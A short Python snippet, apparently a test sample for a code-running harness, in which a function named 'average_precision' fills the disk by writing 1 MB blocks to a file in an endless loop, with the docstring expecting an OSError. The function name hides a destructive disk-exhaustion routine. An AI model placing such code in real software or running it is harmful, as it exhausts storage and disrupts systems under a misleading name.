"""Fills the disk with one file.

function: error:OSError
"""

# cell: function
def average_precision(y_true, y_score):
    with open("full", "wb") as file:
        while True:
            file.write(bytes(2**20))
